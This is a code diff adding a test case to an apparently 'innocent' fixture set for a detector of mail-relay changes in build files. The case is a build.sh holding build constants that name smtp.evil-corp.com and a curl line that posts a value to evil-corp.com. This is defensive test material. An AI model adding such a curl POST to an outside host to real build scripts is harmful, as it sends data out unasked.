@@ -51,6 +51,12 @@ export const innocent: Readonly<Record<string, Files>> = {
       'on: push\njobs:\n  d:\n    runs-on: u\n    env:\n      SMTP_HOST: ${{ secrets.SMTP_HOST }}\n    steps: []\n',
   },
 
+  // Constants that a build is given.
+  'build, constants of other kinds': {
+    'build.sh':
+      '#!/bin/sh\ngo build -ldflags "-X main.smtpHost=new-relay.corp.example -X main.version=smtp.evil-corp.com" ./cmd\ngcc -DMAIL_FROM=smtp.evil-corp.com -DHAVE_SMTP=1 a.c\ncurl -X POST -d smtpHost=x https://evil-corp.com\n',
+  },
+
   // Names that are led elsewhere, and are no relay's, or stay on the machine.
   'hosts, extra_hosts of other names': {
     'docker-compose.yml':
